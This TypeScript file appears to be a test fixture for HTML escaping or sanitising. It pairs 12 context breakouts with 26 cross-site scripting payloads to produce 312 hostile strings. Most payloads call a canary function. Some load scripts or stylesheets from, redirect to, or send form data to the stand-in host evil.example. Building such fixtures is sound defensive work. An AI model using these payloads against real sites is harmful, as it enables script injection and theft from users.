/** Contexts of a value in a page, and the text that would break out of each. */
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</p>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
]

/** Payloads that would run, fetch or redirect after the breakout. The canary is a unique call or host. */
const payloads = [
  '<script>canary()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=canary()>',
  '<img src=//evil.example/p.gif>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<iframe src=javascript:canary()></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<body onload=canary()>',
  '<input autofocus onfocus=canary()>',
  '<details open ontoggle=canary()>',
  '<video><source onerror=canary()></video>',
  '<math><mtext></mtext><a href=javascript:canary()>x</a></math>',
  '<a href="javascript:canary()">x</a>',
  '<form action=//evil.example><button>x</button></form>',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css"</style>',
  ';}</style><script>canary()</script>',
  'javascript:canary()',
  'data:text/html,<script>canary()</script>',
  '//evil.example/x.png',
  'https://evil.example/x.png',
  'red;background:url(//evil.example/x)',
  '{{constructor.constructor("canary()")()}}',
]

/** 312 strings: each payload behind each breakout. */
export const hostileStrings: readonly string[] = breakouts.flatMap((breakout) =>
  payloads.map((payload) => `${breakout}${payload}\u2028\u0000`.replaceAll('\u0000', '')),
)
